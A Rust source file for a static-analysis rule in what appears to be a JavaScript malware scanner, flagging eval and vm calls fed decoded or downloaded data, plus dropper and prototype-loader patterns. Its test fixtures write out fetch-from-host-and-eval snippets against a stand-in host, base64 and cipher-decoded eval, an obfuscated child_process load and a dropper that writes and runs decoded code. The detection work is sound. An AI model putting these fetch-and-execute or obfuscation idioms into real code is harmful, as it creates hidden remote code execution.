use crate::context::FileContext;
use crate::js::CallFact;
use crate::report::{Confidence, Finding, Severity};
use crate::rule::{Rule, RuleMeta, declare_rule};

fn is_code_sink(call: &CallFact) -> bool {
    let callee = call.callee.as_str();
    matches!(
        callee,
        "eval"
            | "Function"
            | "new:Function"
            | "vm.runInNewContext"
            | "vm.runInThisContext"
            | "vm.runInContext"
            | "vm.compileFunction"
            | "vm.Script"
            | "new:vm.Script"
            | "module._compile"
            | "Module._compile"
            | "module.constructor._compile"
            | "Module.prototype._compile"
            | "setTimeout"
            | "setInterval"
            | "execScript"
            | "require"
            | "import"
    ) || callee.ends_with("._compile")
        || callee.ends_with("constructor.constructor")
}

declare_rule! {
    /// ### What it does
    /// Finds code evaluation (`eval`, `Function`/`new Function`, `vm.*`, `Module._compile`,
    /// string `setTimeout`, `require` of a computed name) and grades it by what it is fed:
    /// decoded data (base64, hex, char codes, deciphered text) or network responses are high,
    /// file contents are medium, a constant that hides a module name is high.
    ///
    /// ### Why is this bad?
    /// Malware ships its real payload encoded or downloads it, then evaluates it, so that no
    /// reviewer or scanner sees the code; legitimate libraries almost never evaluate decoded or
    /// downloaded text.
    ///
    /// ### Examples
    /// Incorrect:
    /// ```js
    /// eval(Buffer.from(payload, 'base64').toString());
    /// ```
    /// Correct:
    /// ```js
    /// const global = new Function('return this')();
    /// ```
    DecodedCodeExecution, "decoded-code-execution", DynamicCode,
    tokens = &["eval", "Function", "vm", "writeFile", "child_process", "exec", "spawn", "fork", "process"]
}

impl Rule for DecodedCodeExecution {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn run_file(&self, file: &FileContext<'_>, out: &mut Vec<Finding>) {
        let Some(facts) = file.js else { return };
        for call in facts.calls.iter().filter(|call| is_code_sink(call)) {
            // `Function(a, b, body)`: the body is the last argument.
            let Some(argument) = (if call.callee.contains("Function") {
                call.arguments.last()
            } else {
                call.arguments.first()
            }) else {
                continue;
            };
            let is_require = call.callee == "require" || call.callee == "import";
            let is_timer = call.callee == "setTimeout" || call.callee == "setInterval";
            // Timers take functions; only a decoded *string* is code.
            if is_timer && !(argument.decoded && argument.constant.is_some()) {
                continue;
            }
            let graded = if argument.remote {
                Some((
                    Severity::High,
                    Confidence::High,
                    format!(
                        "evaluates code downloaded from the network via `{}`",
                        call.callee
                    ),
                ))
            } else if argument.decoded {
                Some((
                    Severity::High,
                    Confidence::High,
                    format!("evaluates decoded data via `{}`", call.callee),
                ))
            } else if argument.from_file && !is_require {
                Some((
                    Severity::Medium,
                    Confidence::Medium,
                    format!("evaluates file contents via `{}`", call.callee),
                ))
            } else if let Some(constant) = &argument.constant {
                // `eval("require")` is the bundlers' way to reach Node's own `require`.
                let literal = file
                    .text
                    .get(call.offset as usize..(call.offset as usize + 16).min(file.text.len()))
                    .unwrap_or_default();
                let bundler_idiom = constant == "require"
                    && (literal.starts_with("eval(\"require\")")
                        || literal.starts_with("eval('require')"));
                let hides_module = !is_require
                    && !is_timer
                    && !bundler_idiom
                    && (constant.contains("child_process")
                        || constant.contains("process.mainModule")
                        || constant == "require");
                hides_module.then(|| {
                    (
                        Severity::High,
                        Confidence::Medium,
                        format!("`{}` of a constant hides a module load", call.callee),
                    )
                })
            } else {
                None
            };
            if let Some((severity, confidence, message)) = graded {
                out.push(file.finding(
                    &Self::META,
                    severity,
                    confidence,
                    Some(call.offset as usize),
                    message,
                    None,
                ));
            }
        }
        // Decoded or downloaded data written to disk and then run as a process: a dropper.
        let runs_processes = file.process_calls().next().is_some();
        if runs_processes
            && let Some(write) = facts.calls.iter().find(|call| {
                call.callee.starts_with("fs.writeFile")
                    && call.arguments.get(1).is_some_and(|data| data.decoded)
            })
        {
            out.push(file.finding(
                &Self::META,
                Severity::High,
                Confidence::Medium,
                Some(write.offset as usize),
                "writes decoded data to disk and runs processes".to_owned(),
                None,
            ));
        }
        // Built-in prototypes extended in a file full of `eval`: string-method loaders.
        let evals = facts
            .calls
            .iter()
            .filter(|call| call.callee == "eval")
            .count();
        if evals >= 3
            && let Some(assignment) = facts.assignments.iter().find(|assignment| {
                assignment.target.starts_with("String.prototype.")
                    || assignment.target.starts_with("Array.prototype.")
            })
        {
            out.push(file.finding(
                &Self::META,
                Severity::High,
                Confidence::Medium,
                Some(assignment.offset as usize),
                format!(
                    "extends `{}` in a file with {evals} `eval` calls",
                    assignment.target
                ),
                None,
            ));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::tester::test_rule;

    #[test]
    fn test() {
        let pass = vec![
            "const g = new Function('return this')();".into(),
            "eval('1 + 1');".into(),
            "const nodeRequire = eval('require'); nodeRequire('fs');".into(),
            "String.prototype.padStart = function (n) { return this; };".into(),
            "const name = cond ? 'a' : 'b'; require(name);".into(),
            "setTimeout(function () {}, 10);".into(),
            "const fs = require('fs'); const { exec } = require('child_process'); fs.writeFileSync('out.json', JSON.stringify(data)); exec('git add out.json');".into(),
        ];
        let fail = vec![
            "eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString());".into(),
            "const p = atob('Y29uc29sZS5sb2coMSk='); new Function(p)();".into(),
            "const axios = require('axios'); async function f() { const res = await axios.get('http://h.example/x'); eval(res.data.cookie); } f();".into(),
            "require('https').get('https://h.example/p', (res) => { let body = ''; res.on('data', (d) => { body += d; }); res.on('end', () => eval(body)); });".into(),
            "const d = require('crypto').createDecipheriv('aes-256-cbc', k, iv); const code = d.update(blob, 'hex', 'utf8') + d.final('utf8'); eval(code);".into(),
            "eval('req' + 'uire')('child_process');".into(),
            "String.prototype.run = function () { eval(this.toString()); }; eval(a); eval(b); 'x'.run();".into(),
            "const fs = require('fs'); const { exec } = require('child_process'); const s = Buffer.from(blob, 'base64').toString(); fs.writeFileSync('main.js', s); exec('node main.js');".into(),
            "const vm = require('vm'); vm.runInThisContext(Buffer.from(x, 'hex').toString());".into(),
        ];
        test_rule(DecodedCodeExecution::META.name, pass, fail);
    }
}
